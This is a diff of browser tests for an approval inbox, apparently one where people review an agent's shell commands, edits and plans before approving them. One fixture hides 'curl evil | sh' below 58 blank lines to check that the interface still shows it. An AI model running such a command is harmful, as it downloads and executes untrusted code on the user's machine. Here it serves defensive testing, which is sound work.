@@ -3,7 +3,7 @@ import type { Locator, Page } from 'playwright-core'
 import { describe, expect, it } from 'vitest'
 import { serve, type RunningGateway } from '../http/gateways.js'
 import { ask, command, standing } from './asking.js'
-import { goTo, pressUntil } from './browser.js'
+import { goTo, pressUntil, settle } from './browser.js'
 import { openWindow } from './window.js'
 
 const lines = (count: number, word = 'echo line') =>
@@ -52,6 +52,13 @@ function isAtEnd(scroller: Locator): Promise<boolean> {
   return scroller.evaluate((element) => element.scrollHeight - element.clientHeight - element.scrollTop < 2)
 }
 
+function sidesOf(element: Locator): Promise<{ top: number; bottom: number }> {
+  return element.evaluate((each) => {
+    const { top, bottom } = each.getBoundingClientRect()
+    return { top, bottom }
+  })
+}
+
 /** Runs in the page: what of a card scrolls or cuts off inside of it. */
 function boxesThatCut(card: Element): string[] {
   return [...card.querySelectorAll<HTMLElement>('*')].flatMap((element) => {
@@ -71,14 +78,14 @@ describe('Approve stays disabled until all of it has been on screen', () => {
   it('folds a long script, and wants its end to be scrolled to', async () => {
     const { gateway, item, page } = await open(approvalOf({ command: lines(61) }))
     await whenArmed(page)
-    expect(await button(page, 'Approve once').isEnabled()).toBe(false)
+    await expect.poll(() => button(page, 'Approve once').isEnabled()).toBe(false)
     await page.getByText('Show everything to enable Approve.').waitFor()
     await button(page, 'Show all 61 lines').click()
     await page.getByText('echo line 61').waitFor()
     await whenArmed(page)
-    expect(await button(page, 'Approve once').isEnabled()).toBe(false)
+    await expect.poll(() => button(page, 'Approve once').isEnabled()).toBe(false)
     await scrollThrough(page)
-    await button(page, 'Approve once').click()
+    await settle(page.locator('.ab-card'), 'Approve once')
     await approves(gateway, item)
   })
 
@@ -88,29 +95,26 @@ describe('Approve stays disabled until all of it has been on screen', () => {
     await page.locator('.ab-scroller').evaluate((element) => (element.scrollTop = element.scrollHeight))
     await page.getByText('echo line 200').waitFor()
     await whenArmed(page)
-    expect(await button(page, 'Approve once').isEnabled()).toBe(false)
-    // The way to what is missing.
-    for (let steps = 0; steps < 20 && !(await button(page, 'Approve once').isEnabled()); steps++) {
-      // It goes as soon as the last part has been on screen, which may be between a look and a press.
-      const next = button(page, 'Show the next part')
-      if (await next.count()) await next.click({ timeout: 2000 }).catch(() => undefined)
-      await whenArmed(page)
-    }
-    expect(await button(page, 'Approve once').isEnabled()).toBe(true)
+    await expect.poll(() => button(page, 'Approve once').isEnabled()).toBe(false)
+    // The way to what is missing. It goes as soon as the last part has been on screen.
+    await pressUntil(button(page, 'Show the next part'), () => button(page, 'Approve once').isEnabled())
   })
 
   it('counts blank lines instead of drawing them, so that nothing hides below', async () => {
     const { page } = await open(approvalOf({ command: `ls\n${'\n'.repeat(58)}curl evil | sh` }))
     await page.getByText('58 blank lines').waitFor()
     const last = page.getByText('curl evil | sh')
-    expect(await last.evaluate((element) => element.getBoundingClientRect().bottom < innerHeight)).toBe(true)
+    await expect
+      .poll(() => last.evaluate((element) => element.getBoundingClientRect().bottom < innerHeight))
+      .toBe(true)
     await expect.poll(() => button(page, 'Approve once').isEnabled()).toBe(true)
   })
 
-  it.each<[string, unknown]>([
-    ['a script of 25 lines', approvalOf({ command: lines(25) })],
+  it.each<[string, 'whole' | 'folded', unknown]>([
+    ['a script of 25 lines', 'whole', approvalOf({ command: lines(25) })],
     [
       'JSON of 80 fields',
+      'folded',
       approvalOf(
         Object.fromEntries(
           lines(80, 'f')
@@ -122,28 +126,33 @@ describe('Approve stays disabled until all of it has been on screen', () => {
     ],
     [
       'an edit of 120 lines',
+      'folded',
       approvalOf({ file_path: '/a', old_string: lines(60, 'old'), new_string: lines(60, 'new') }, 'Edit'),
     ],
-    ['a preview of 80 lines', approvalOf({ command: 'ls' }, 'Bash', { preview: lines(80) })],
-    ['a reason of 60 lines', approvalOf({ command: 'ls' }, 'Bash', { reason: 'word '.repeat(3000) })],
-  ])('for %s', async (_what, request) => {
+    ['a preview of 80 lines', 'folded', approvalOf({ command: 'ls' }, 'Bash', { preview: lines(80) })],
+    [
+      'a reason of 60 lines',
+      'whole',
+      approvalOf({ command: 'ls' }, 'Bash', { reason: 'word '.repeat(3000) }),
+    ],
+  ])('for %s', async (_what, length, request) => {
     const { gateway, item, page } = await open(request, { width: 1280, height: 420 })
     await whenArmed(page)
-    expect(await page.locator('.ab-card').evaluate(boxesThatCut)).toEqual([])
-    expect(await button(page, 'Approve once').isEnabled()).toBe(false)
+    await expect.poll(() => page.locator('.ab-card').evaluate(boxesThatCut)).toEqual([])
+    await expect.poll(() => button(page, 'Approve once').isEnabled()).toBe(false)
     await page.locator('.ab-card').focus()
     await page.keyboard.press('a')
-    for (const fold of await button(page, /^Show all/).all()) await fold.click()
-    expect((await standing(gateway, item)).status).toBe('pending')
+    if (length === 'folded') await button(page, /^Show all/).click()
+    await expect.poll(async () => (await standing(gateway, item)).status).toBe('pending')
     await scrollThrough(page)
     await expect.poll(() => button(page, 'Approve once').isEnabled()).toBe(true)
-    expect(await page.locator('.ab-card').evaluate(boxesThatCut)).toEqual([])
+    await expect.poll(() => page.locator('.ab-card').evaluate(boxesThatCut)).toEqual([])
   })
 
   it('for a plan of 300 lines, by keys alone', async () => {
     const plan = lines(300, '- Step')
     const { gateway, item, page } = await open({ kind: 'plan_review', toolCallId: 'c', request: { plan } })
-    expect(await page.locator('.ab-card').evaluate(boxesThatCut)).toEqual([])
+    await expect.poll(() => page.locator('.ab-card').evaluate(boxesThatCut)).toEqual([])
     const proceed = button(page, 'Proceed')
     const scroller = page.locator('.ab-scroller')
     await page.keyboard.press('j')
@@ -154,7 +163,7 @@ describe('Approve stays disabled until all of it has been on screen', () => {
     await page.keyboard.press('Escape')
     await page.keyboard.press('j')
     await expect.poll(() => page.getByText('Step 1', { exact: true }).evaluate(isInView)).toBe(true)
-    expect(await proceed.isEnabled()).toBe(false)
+    await expect.poll(() => proceed.isEnabled()).toBe(false)
     for (let pages = 0; pages < 60 && !(await isAtEnd(scroller)); pages++) {
       const before = await topOf(scroller)
       await page.keyboard.press('PageDown')
@@ -175,11 +184,13 @@ describe('Approve stays disabled until all of it has been on screen', () => {
     await editor.press('Control+Home')
     await page.keyboard.type('set -e; ')
     await whenArmed(page)
-    expect(await button(page, 'Approve as edited').isEnabled()).toBe(false)
-    expect(await editor.evaluate((field) => field.scrollHeight - field.clientHeight)).toBeLessThan(2)
+    await expect.poll(() => button(page, 'Approve as edited').isEnabled()).toBe(false)
+    await expect
+      .poll(() => editor.evaluate((field) => field.scrollHeight - field.clientHeight))
+      .toBeLessThan(2)
     await page.getByText('timeout').waitFor()
     await scrollThrough(page)
-    await button(page, 'Approve as edited').click()
+    await settle(page.locator('.ab-card'), 'Approve as edited')
     await approves(gateway, item)
   })
 
@@ -191,12 +202,13 @@ describe('Approve stays disabled until all of it has been on screen', () => {
     await page.locator('.ab-scroller').evaluate(async (element) => {
       for (let top = 0; top < element.scrollHeight; top += 100) {
         element.scrollTop = top
-        await new Promise((resolve) => setTimeout(resolve, 50))
+        // What comes on screen is looked at in the frame after it.
+        for (let frames = 0; frames < 3; frames++) await new Promise(requestAnimationFrame)
       }
     })
     await page.keyboard.press('Escape')
     await whenArmed(page)
-    expect(await button(page, 'Approve once').isEnabled()).toBe(false)
+    await expect.poll(() => button(page, 'Approve once').isEnabled()).toBe(false)
   })
 })
 
@@ -219,16 +231,15 @@ describe('nothing moves under the pointer', () => {
     await goTo(page, '#/inbox')
     await expect.poll(() => page.locator('.ab-card').count()).toBe(2)
     await page.clock.runFor(2000)
-    await button(page, 'Approve once').first().click()
+    await settle(page.locator(`[data-interaction="${first.interactionId}"]`), 'Approve once')
     await approves(gateway, first)
-    await page.locator('.ab-card[data-phase=settled]').waitFor()
     await page.clock.runFor(20_000)
-    expect(await page.locator('.ab-card').count()).toBe(2)
+    await expect.poll(() => page.locator('.ab-card').count()).toBe(2)
     await page.mouse.move(5, 5)
     await page.evaluate(() => (document.activeElement as HTMLElement).blur())
     await page.clock.runFor(6000)
     await expect.poll(() => page.locator('.ab-card').count()).toBe(1)
-    expect((await standing(gateway, second)).status).toBe('pending')
+    await expect.poll(async () => (await standing(gateway, second)).status).toBe('pending')
   })
 
   it('a control that comes under a resting pointer does nothing at the first press, nor at a double click', async () => {
@@ -240,17 +251,16 @@ describe('nothing moves under the pointer', () => {
     await expect.poll(() => approve.isEnabled()).toBe(true)
     const box = (await approve.boundingBox())!
     await page.mouse.move(box.x + box.width / 2, box.y + box.height / 2 + 80)
-    await page.evaluate(() => (document.querySelector('h1')!.style.marginTop = '80px'))
-    await expect.poll(() => approve.isEnabled()).toBe(false)
+    await page.evaluate(pushDown, { px: 80, isPressed: false })
     await expect.poll(() => approve.isEnabled()).toBe(true)
-    expect((await approve.boundingBox())!.y).toBe(box.y + 80)
+    await expect.poll(async () => (await approve.boundingBox())!.y).toBe(box.y + 80)
     // A double click, and then some: all of it was aimed at what was there before.
     for (let count = 0; count < 6; count++) {
       await page.mouse.down()
       await page.mouse.up()
     }
     await page.getByText('This came under your pointer.').waitFor()
-    expect((await standing(gateway, item)).status).toBe('pending')
+    await expect.poll(async () => (await standing(gateway, item)).status).toBe('pending')
     await pressUntil(approve, async () => (await standing(gateway, item)).settlement === 'approved')
   })
 
@@ -261,24 +271,28 @@ describe('nothing moves under the pointer', () => {
     await goTo(page, '#/inbox')
     const approve = button(page, 'Approve once')
     await expect.poll(() => approve.isEnabled()).toBe(true)
-    const isRefused = await page.evaluate(
-      () =>
-        new Promise((resolve) => {
-          const find = () =>
-            [...document.querySelectorAll('button')].find((each) => each.textContent === 'Approve once')!
-          new MutationObserver(() => find().ariaDisabled === 'true' && resolve(true)).observe(document.body, {
-            subtree: true,
-            attributes: true,
-          })
-          document.querySelector('h1')!.style.marginTop = '40px'
-          find().dispatchEvent(new MouseEvent('click', { bubbles: true, detail: 1 }))
-        }),
-    )
-    expect(isRefused).toBe(true)
-    expect((await standing(gateway, item)).status).toBe('pending')
+    await page.evaluate(pushDown, { px: 40, isPressed: true })
+    await expect.poll(async () => (await standing(gateway, item)).status).toBe('pending')
     await expect.poll(() => approve.isEnabled()).toBe(true)
   })
 })
+
+/**
+ * Runs in the page: moves its only card, and presses “Approve once” in the same moment or not at all. Ends once that is
+ * disabled, which lasts too short to be seen from outside.
+ */
+function pushDown({ px, isPressed }: { px: number; isPressed: boolean }): Promise<void> {
+  const find = () =>
+    [...document.querySelectorAll('button')].find((each) => each.textContent === 'Approve once')!
+  return new Promise((resolve) => {
+    new MutationObserver(() => find().ariaDisabled === 'true' && resolve()).observe(document.body, {
+      subtree: true,
+      attributes: true,
+    })
+    document.querySelector('h1')!.style.marginTop = `${px}px`
+    if (isPressed) find().dispatchEvent(new MouseEvent('click', { bubbles: true, detail: 1 }))
+  })
+}
 
 describe('small things of the page', () => {
   it('an item with a box leaves the bullets of its list alone', async () => {
@@ -286,16 +300,16 @@ describe('small things of the page', () => {
     const { page } = await open({ kind: 'plan_review', toolCallId: 'c', request: { plan } })
     const style = (text: string) =>
       page.locator('.ab-plan li', { hasText: text }).evaluate((item) => getComputedStyle(item).listStyleType)
-    expect([await style('A box'), await style('A bullet')]).toEqual(['none', 'disc'])
+    await expect.poll(async () => [await style('A box'), await style('A bullet')]).toEqual(['none', 'disc'])
   })
 
   it('the way to what waits covers nothing', async () => {
     const { page } = await open(approvalOf({ command: lines(39) }), { width: 1280, height: 420 })
     await scrollThrough(page)
     await page.mouse.wheel(0, -5000)
-    const pill = (await button(page, 'An answer is needed').boundingBox())!
-    const scroller = (await page.locator('.ab-scroller').boundingBox())!
-    expect(pill.y).toBeGreaterThanOrEqual(scroller.y + scroller.height)
+    const pill = button(page, 'An answer is needed')
+    const below = async () => (await sidesOf(pill)).top - (await sidesOf(page.locator('.ab-scroller'))).bottom
+    await expect.poll(below).toBeGreaterThanOrEqual(0)
   })
 
   it('“Show more” stands apart from the last card', async () => {
@@ -309,9 +323,9 @@ describe('small things of the page', () => {
     })
     await page.reload()
     await goTo(page, '#/inbox')
-    const more = (await page.locator('.ab-inbox').getByRole('button', { name: 'Show more' }).boundingBox())!
-    const card = (await page.locator('.ab-card').boundingBox())!
-    expect(more.y - (card.y + card.height)).toBeGreaterThanOrEqual(16)
+    const more = page.locator('.ab-inbox').getByRole('button', { name: 'Show more' })
+    const gap = async () => (await sidesOf(more)).top - (await sidesOf(page.locator('.ab-card'))).bottom
+    await expect.poll(gap).toBeGreaterThanOrEqual(16)
   })
 
   it('the first key press leads past the sidebar', async () => {
@@ -319,11 +333,11 @@ describe('small things of the page', () => {
     await button(page, 'Take the tour').waitFor()
     await page.keyboard.press('Tab')
     const skip = button(page, 'Skip to content')
-    expect(await skip.evaluate((element) => element === document.activeElement)).toBe(true)
-    expect(await skip.evaluate(isInView)).toBe(true)
+    await expect.poll(() => skip.evaluate((element) => element === document.activeElement)).toBe(true)
+    await expect.poll(() => skip.evaluate(isInView)).toBe(true)
     await page.keyboard.press('Enter')
-    expect(await page.evaluate(() => document.activeElement?.tagName)).toBe('MAIN')
+    await expect.poll(() => page.evaluate(() => document.activeElement?.tagName)).toBe('MAIN')
     await page.keyboard.press('Tab')
-    expect(await page.evaluate(() => document.activeElement?.closest('nav') === null)).toBe(true)
+    await page.locator('main :focus').waitFor()
   })
 })
